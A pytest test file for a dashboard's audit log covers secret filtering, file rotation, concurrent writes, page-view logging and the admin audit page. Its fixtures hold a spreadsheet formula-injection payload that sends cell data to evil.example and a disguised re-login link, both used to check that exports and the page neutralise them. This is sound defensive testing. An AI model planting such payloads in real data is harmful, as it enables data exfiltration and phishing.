"""The audit trail (dashboards/audit.py) and the admin's audit page: one vocabulary of actions, never a secret,
rotation by size and by month with nothing deleted or rewritten, two processes appending at once, reading
across rotated files, one page view per change of page or filters (refusals included)."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboards import access, audit
from gridsight.settings import TIMEZONE
from tests.conftest import REPO
from tests.dashboards.conftest import drawn_downloads, open_app, switch_page

WORKER = access.User("w1", "网格员", "grid_worker", ("D01-S01-C01-G01",))
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
LINK = "[重新登录](https:evil.example)"


@pytest.fixture
def folder(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("GRIDSIGHT_AUDIT_MAX_BYTES", raising=False)
    return tmp_path / "audit"


@pytest.fixture
def clock(monkeypatch):
    """The audit log's clock, set by the test: clock.at = …"""
    class Clock:
        at = dt.datetime(2026, 11, 30, 12, tzinfo=dt.UTC)

    monkeypatch.setattr(audit, "now", lambda: Clock.at)
    return Clock


def _files(folder: Path) -> dict[str, list[dict]]:
    return {p.name: [json.loads(line) for line in p.read_text(encoding="utf-8").splitlines()]
            for p in sorted(folder.glob("*.jsonl"))}


def _utc(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=dt.UTC)


# --- what may be written ---

def test_the_users_cli_records_without_a_dashboard_user(folder, clock):
    entry = audit.record("os:alice", "admin", "all", "user_added", target="w1", target_role="grid_worker",
                         grids=["D01-S01-C01-G01"])
    assert entry == {"at": "2026-11-30T12:00:00+00:00", "user_id": "os:alice", "role": "admin",
                     "action": "user_added", "scope": "all", "target": "w1", "target_role": "grid_worker",
                     "grids": ["D01-S01-C01-G01"]}
    assert audit.audit_entries() == [entry]
    audit.audit(WORKER, "export", rows=3, file="x.csv")
    assert audit.audit_entries()[0]["scope"] == ["D01-S01-C01-G01"]
    assert stat.S_IMODE((folder / "audit.jsonl").stat().st_mode) == 0o600
    assert "streamlit" not in subprocess.run(   # the CLI does not pay for streamlit
        [sys.executable, "-c", "import sys, dashboards.audit; print(' '.join(sys.modules))"],
        cwd=REPO, capture_output=True, text=True, check=True).stdout.split()


@pytest.mark.parametrize("action", ["view_household_list", "Export", "signin", ""])
def test_an_unknown_action_is_refused_and_nothing_written(folder, action):
    with pytest.raises(ValueError, match="unknown audit action"):
        audit.audit(WORKER, action, rows=1)
    assert not (folder / "audit.jsonl").exists()


@pytest.mark.parametrize("detail", [
    {"password": "hunter2"}, {"passwd": "x"}, {"new_password": "x"}, {"pwd": "x"}, {"api_token": "x"},
    {"client_secret": "x"}, {"session_cookie": "x"}, {"key": "x"}, {"otp": "123456"}, {"password_hash": "x"},
    {"filters": {"signin_password": "hunter2"}}, {"changes": [{"Password": "x"}]},
])
def test_a_secret_is_never_written(folder, detail):
    with pytest.raises(ValueError, match="secrets are never logged"):
        audit.record("os:alice", "admin", "all", "password_reset", target="w1", **detail)
    assert not (folder / "audit.jsonl").exists()


@pytest.mark.parametrize(("detail", "message"), [
    ({"day": dt.date(2026, 11, 30)}, "ISO strings"), ({"rows": float("nan")}, "Out of range"),
    ({"filters": {1: "a"}}, "keys must be text"), ({"user_id": "someone_else"}, "may not set user_id"),
    ({"role": "admin"}, "target_role"),
])
def test_a_detail_that_is_not_plain_data_or_overrides_who_is_refused(folder, detail, message):
    with pytest.raises(ValueError, match=message):
        audit.record("os:alice", "admin", "all", "user_changed", target="w1", **detail)
    assert not (folder / "audit.jsonl").exists()


def test_reasons_and_harmless_keys_are_fine(folder):
    audit.record("w1", "grid_worker", ["G1"], "sign_in_failed", reason="wrong_password", monkey=1, keys=2)
    assert audit.audit_entries()[0]["reason"] == "wrong_password"
    with pytest.raises(ValueError, match="scope"):
        audit.record("w1", "grid_worker", "G1", "sign_in")


# --- rotation: nothing deleted, nothing rewritten ---

def test_the_log_starts_a_new_file_past_its_size(folder, clock, monkeypatch):
    monkeypatch.setenv("GRIDSIGHT_AUDIT_MAX_BYTES", "400")
    kept: dict[str, bytes] = {}
    for i in range(12):
        audit.record("os:alice", "admin", "all", "export", i=i, file="f" * 80)
        for path in folder.glob("audit-*.jsonl"):   # a rotated file never changes again
            kept.setdefault(path.name, path.read_bytes())
            assert path.read_bytes() == kept[path.name], path.name
    files = _files(folder)
    rotated = [name for name in files if name != "audit.jsonl"]
    assert rotated[:2] == ["audit-2026-11-2.jsonl", "audit-2026-11-3.jsonl"] and "audit-2026-11.jsonl" in rotated
    order = ["audit-2026-11.jsonl", *sorted(set(rotated) - {"audit-2026-11.jsonl"},
                                            key=lambda n: int(n[len("audit-2026-11-"):-6])), "audit.jsonl"]
    assert [e["i"] for name in order for e in files[name]] == list(range(12))   # every line, in order
    for name in rotated:
        size = (folder / name).stat().st_size
        assert size > 400 and size - len(json.dumps(files[name][-1])) <= 400   # rotated as soon as too large
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in folder.iterdir())
    assert [e["i"] for e in audit.audit_entries(limit=None)] == list(range(11, -1, -1))
    assert [e["i"] for e in audit.audit_entries(limit=3)] == [11, 10, 9]


def test_the_log_starts_a_new_file_each_month(folder, clock):
    clock.at = _utc(2026, 11, 30, 23, 59, 59)
    audit.record("os:alice", "admin", "all", "user_added", target="a")
    clock.at = _utc(2026, 12, 1, 0, 0, 0)
    audit.record("os:alice", "admin", "all", "user_added", target="b")
    audit.record("os:alice", "admin", "all", "user_added", target="c")
    clock.at = _utc(2027, 1, 15)
    audit.record("os:alice", "admin", "all", "user_added", target="d")
    assert {name: [e["target"] for e in entries] for name, entries in _files(folder).items()} == {
        "audit-2026-11.jsonl": ["a"], "audit-2026-12.jsonl": ["b", "c"], "audit.jsonl": ["d"]}


def test_a_bad_size_setting_is_a_clear_error(folder, monkeypatch):
    monkeypatch.setenv("GRIDSIGHT_AUDIT_MAX_BYTES", "10MB")
    with pytest.raises(ValueError, match="GRIDSIGHT_AUDIT_MAX_BYTES='10MB'.*positive number of bytes"):
        audit.record("os:alice", "admin", "all", "sign_in")


WRITER = """
import sys
from dashboards.audit import record
for i in range(int(sys.argv[2])):
    record("writer" + sys.argv[1], "admin", "all", "export", i=i, file="f" * 60)
"""


def test_two_processes_appending_and_rotating_at_once_lose_no_line(folder, tmp_path):
    env = {**os.environ, "GRIDSIGHT_DATA_DIR": str(tmp_path), "GRIDSIGHT_AUDIT_MAX_BYTES": "3000"}
    n = 300
    writers = [subprocess.Popen([sys.executable, "-c", WRITER, str(w), str(n)], cwd=REPO, env=env,
                                stderr=subprocess.PIPE, text=True) for w in (1, 2)]
    for writer in writers:
        assert writer.wait(timeout=120) == 0, writer.stderr.read()
    files = _files(folder)   # every line parses
    assert len(files) > 10   # it rotated many times while both wrote
    written = [(e["user_id"], e["i"]) for entries in files.values() for e in entries]
    assert sorted(written) == sorted((f"writer{w}", i) for w in (1, 2) for i in range(n))
    for entries in files.values():   # each writer's lines stay in order within a file
        for w in (1, 2):
            mine = [e["i"] for e in entries if e["user_id"] == f"writer{w}"]
            assert mine == sorted(mine)


# --- reading ---

def test_corrupt_lines_are_skipped_and_counted(folder, clock):
    audit.record("os:alice", "admin", "all", "sign_in")
    with (folder / "audit.jsonl").open("a", encoding="utf-8") as handle:
        handle.write('not json\n{"at": "2026-11-30T12:00:00+00:00", "user_id": "cut\n[1, 2]\n'
                     '{"user_id": "no time"}\n{"at": "yesterday"}\n\n"text"\n')
    audit.record("os:alice", "admin", "all", "sign_out")
    entries = audit.audit_entries()
    assert [e["action"] for e in entries] == ["sign_out", "sign_in"] and entries.unreadable == 6


def test_reading_filters_by_time_user_and_action_over_rotated_files(folder, clock):
    for day, (month, user, action) in enumerate([(9, "w1", "export"), (10, "w1", "export"), (11, "w1", "export"),
                                                 (11, "w2", "export"), (11, "w1", "page_view"),
                                                 (12, "w1", "export")], start=1):
        clock.at = _utc(2026, month, day)
        audit.record(user, "grid_worker", ["G1"], action, month=month)
    with (folder / "audit-2026-09.jsonl").open("a", encoding="utf-8") as handle:
        handle.write("corrupt\n")
    names = sorted(p.name for p in folder.glob("*.jsonl"))
    assert names == ["audit-2026-09.jsonl", "audit-2026-10.jsonl", "audit-2026-11.jsonl", "audit.jsonl"]
    november = audit.audit_entries(since=_utc(2026, 11, 1), until=_utc(2026, 12, 1))
    assert [(e["month"], e["user_id"], e["action"]) for e in november] == [
        (11, "w1", "page_view"), (11, "w2", "export"), (11, "w1", "export")]
    assert november.unreadable == 0   # September's file is not even read
    picked = audit.audit_entries(users=["w1"], actions=["export"])
    assert [e["month"] for e in picked] == [12, 11, 10, 9] and picked.unreadable == 1
    shanghai = ZoneInfo("Asia/Shanghai")   # bounds in the district's time zone work as well
    assert [e["month"] for e in audit.audit_entries(since=dt.datetime(2026, 12, 1, tzinfo=shanghai))] == [12]
    with pytest.raises(ValueError, match="time zone"):
        audit.audit_entries(since=dt.datetime(2026, 11, 1))


def test_a_file_written_before_rotation_existed_is_read_for_every_month_it_spans(folder, clock):
    lines = [{"at": f"2026-{m:02d}-20T08:00:00+00:00", "user_id": "w1", "role": "grid_worker",
              "action": "export", "scope": ["G1"], "month": m} for m in (9, 10)]
    folder.mkdir()   # as an older gridsight left it: one file, several months
    (folder / "audit.jsonl").write_text("".join(json.dumps(e) + "\n" for e in lines), encoding="utf-8")
    audit.record("w1", "grid_worker", ["G1"], "export", month=11)
    assert sorted(p.name for p in folder.glob("*.jsonl")) == ["audit-2026-09.jsonl", "audit.jsonl"]
    october = audit.audit_entries(since=_utc(2026, 10, 1), until=_utc(2026, 11, 1))
    assert [e["month"] for e in october] == [10]


# --- page views ---

def _filters_page():
    import datetime as dt

    import streamlit as st

    from dashboards import access
    from dashboards.audit import page_filter, page_view
    from dashboards.components.remembered import remembered

    user = access.User(st.session_state.get("who", "w1"), "W", "grid_worker", ("G1",))
    remembered(st.radio, "lang", ["zh", "en"], name="lang", default="zh", suffix="toggle")   # the shell's
    with page_view(user, st.session_state.get("page", "p1")):
        page_filter(st.text_input, "user", key="signin_user")
        page_filter(st.text_input, "password", key="signin_password", type="password")
        remembered(st.selectbox, "period", [7, 30], name="period", default=30, suffix="zh")
        page_filter(st.multiselect, "grids", ["G1", "G2"], default=["G1"], key="grids__zh")
        page_filter(st.date_input, "days", value=(dt.date(2026, 11, 1), dt.date(2026, 11, 30)), key="days")
        if st.session_state.get("stop"):
            st.warning("refused")
            st.stop()
        st.write("shown")


def test_a_page_view_is_written_once_per_change_of_page_or_filters(folder):
    app = AppTest.from_function(_filters_page, default_timeout=30).run()
    assert not app.exception, app.exception

    def views():
        return [(e["user_id"], e["page"], e["filters"]) for e in reversed(audit.audit_entries(limit=None))]

    first = {"days": ["2026-11-01", "2026-11-30"], "grids": ["G1"], "period": 30}
    assert views() == [("w1", "p1", first)]
    app.run()
    app.text_input(key="signin_user").input("w1").run()
    app.text_input(key="signin_password").input("hunter2").run()
    assert views() == [("w1", "p1", first)]   # reruns and sign-in fields write nothing
    app.selectbox(key="period__zh").set_value(7).run()
    app.radio(key="lang__toggle").set_value("en").run()   # the language is not a filter
    app.multiselect(key="grids__zh").set_value(["G1", "G2"]).run()
    app.session_state["page"] = "p2"
    app.run()
    app.session_state["who"] = "w2"
    app.run()
    app.session_state["stop"] = True
    app.date_input(key="days").set_value((dt.date(2026, 11, 2), dt.date(2026, 11, 3))).run()
    assert app.warning and not app.exception   # the page stopped early: its view is still written
    changed = {**first, "period": 7, "grids": ["G1", "G2"]}
    assert views() == [("w1", "p1", first), ("w1", "p1", {**first, "period": 7}), ("w1", "p1", changed),
                       ("w1", "p2", changed), ("w2", "p2", changed),
                       ("w2", "p2", {**changed, "days": ["2026-11-02", "2026-11-03"]})]
    text = (folder / "audit.jsonl").read_text(encoding="utf-8")
    assert "hunter2" not in text and "signin" not in text and '"lang"' not in text


def _record_page_view_page():
    import streamlit as st

    from dashboards import access
    from dashboards.audit import record_page_view

    st.session_state["written"] = record_page_view(access.User("w1", "W", "grid_worker", ("G1",)), "p",
                                                   {"a": st.session_state.get("a", 1)})


def test_record_page_view_skips_what_it_recorded_last(folder):
    app = AppTest.from_function(_record_page_view_page, default_timeout=30).run()
    assert app.session_state["written"] is True
    app.run()
    assert app.session_state["written"] is False
    app.session_state["a"] = 2
    app.run()
    assert app.session_state["written"] is True
    assert [e["filters"] for e in audit.audit_entries()] == [{"a": 2}, {"a": 1}]


# --- the admin page ---

@pytest.fixture
def log(tmp_path, monkeypatch) -> dict:
    """A log with an entry 40 days old (in last month's rotated file by now), a user change, a worker's list
    and export, a hostile failed sign-in and one of an unknown name."""
    monkeypatch.setenv("GRIDSIGHT_DATA_DIR", str(tmp_path))
    folder = tmp_path / "audit"
    folder.mkdir()
    old = dt.datetime.now(dt.UTC) - dt.timedelta(days=40)
    (folder / "audit.jsonl").write_text(json.dumps({"at": old.isoformat(timespec="seconds"), "user_id": "old",
                                                    "role": "leader", "action": "sign_in", "scope": "all"}) + "\n")
    audit.record("os:alice", "admin", "all", "user_added", target="w1", target_role="grid_worker")
    audit.audit(WORKER, "household_list", rows=12, grids=list(WORKER.scope), tiers=["red", "yellow"])
    audit.audit(WORKER, "export", table="household_visits", rows=12, file="visits.csv", grids=list(WORKER.scope))
    audit.record(LINK, "leader", "all", "sign_in_failed", reason=HOSTILE)
    audit.record("", "", [], "sign_in_failed", reason="unknown_user")   # as sign_in.py logs an unknown name
    return {"old": old}


def _table(app: AppTest) -> pd.DataFrame:
    return app.dataframe[0].value


def test_admin_filters_the_log_and_exports_exactly_what_is_shown(log, tmp_path, monkeypatch):
    downloads = drawn_downloads(monkeypatch)
    app = switch_page(open_app(monkeypatch, tmp_path, user="admin"), "audit_log")
    table = _table(app)
    # the last 30 days: not the 40-day-old entry; the admin's sign-in and first page (the default) are there
    assert list(table["操作"]) == ["查看页面", "登录", "登录失败", "登录失败", "导出数据", "查看户级清单", "新增用户"]
    assert list(table["用户"]) == ["admin", "admin", "(未知用户)", LINK, "w1", "w1", "os:alice"]
    assert "共 7 条记录" in [c.value for c in app.caption]
    assert table.iloc[0]["页面"] == "cockpit" and table.iloc[2]["原因"] == "unknown_user"
    shown_at = dt.datetime.strptime(table[f"时间({TIMEZONE})"].iloc[-1], "%Y-%m-%d %H:%M:%S")
    written_at = dt.datetime.fromisoformat(audit.audit_entries(actions=["user_added"])[0]["at"])
    assert shown_at == written_at.astimezone(ZoneInfo(TIMEZONE)).replace(tzinfo=None)
    row = table[table["操作"] == "查看户级清单"].iloc[0]
    assert (row["角色"], row["权限范围"], row["行数"]) == ("网格员", "D01-S01-C01-G01", 12)
    assert row["其他"] == "grids=D01-S01-C01-G01; tiers=red, yellow"   # text, not JSON
    assert table[table["操作"] == "新增用户"].iloc[0]["对象用户"] == "w1"

    app.multiselect(key="audit_users").set_value(["w1"]).run()
    app.multiselect(key="audit_actions").set_value(["export"]).run()
    table = _table(app)
    assert len(table) == 1 and table.iloc[0]["导出表"] == "household_visits" and table.iloc[0]["文件"] == "visits.csv"
    view = audit.audit_entries(actions=["page_view"])[0]   # the page records its own filters
    assert view["page"] == "audit_log" and view["filters"]["audit_users"] == ["w1"]
    assert view["filters"]["audit_actions"] == ["export"] and len(view["filters"]["audit_dates"]) == 2

    export = downloads["export_audit"]
    assert not audit.audit_entries(actions=["audit_export"])   # drawn, not yet downloaded
    csv = pd.read_csv(io.BytesIO(export["download"]()), encoding="utf-8-sig")
    assert list(csv.columns) == list(table.columns) and len(csv) == len(table) == 1
    entry = audit.audit_entries(actions=["audit_export"])[0]
    assert (entry["user_id"], entry["rows"], entry["users"], entry["actions"]) == ("admin", 1, ["w1"], ["export"])
    assert entry["file"] == export["file_name"]

    old_day = log["old"].astimezone(ZoneInfo(TIMEZONE)).date()   # the old entry, from last month's file
    app.multiselect(key="audit_actions").set_value([]).run()
    app.multiselect(key="audit_users").set_value([]).run()
    app.date_input(key="audit_dates").set_value((old_day, old_day)).run()
    assert list(_table(app)["用户"]) == ["old"]
    assert any(p.name.startswith("audit-") for p in (tmp_path / "audit").iterdir())


def test_hostile_entries_are_exported_neutralised_and_shown_as_text(log, tmp_path, monkeypatch):
    with (tmp_path / "audit" / "audit.jsonl").open("a", encoding="utf-8") as handle:
        handle.write("{broken\n")
    downloads = drawn_downloads(monkeypatch)
    app = switch_page(open_app(monkeypatch, tmp_path, user="admin", lang="en"), "audit_log")
    assert "1 unreadable lines in the audit log were skipped." in [w.value for w in app.warning]
    failed = _table(app).query("User == @LINK").iloc[0]
    assert (failed["Action"], failed["Reason"]) == ("Failed sign-in", HOSTILE)   # a table cell: text, not markdown
    csv = pd.read_csv(io.BytesIO(downloads["export_audit"]["download"]()), encoding="utf-8-sig")
    assert csv.loc[csv["User"] == LINK, "Reason"].tolist() == ["'" + HOSTILE]
    rendered = [e.value for e in (*app.markdown, *app.caption, *app.warning, *app.info)]
    assert not any("evil.example" in text for text in rendered)


def test_other_roles_are_refused(log, tmp_path, monkeypatch):
    with pytest.raises(ValueError, match="Could not find a navigation page"):   # not in a leader's menu
        switch_page(open_app(monkeypatch, tmp_path, user="leader"), "audit_log")
    page = open_app(monkeypatch, tmp_path, script=REPO / "dashboards" / "views" / "audit_log.py", user="leader")
    assert [w.value for w in page.warning] == ["你的角色不能使用此页面。"] and not page.dataframe
    assert not page.get("download_button")
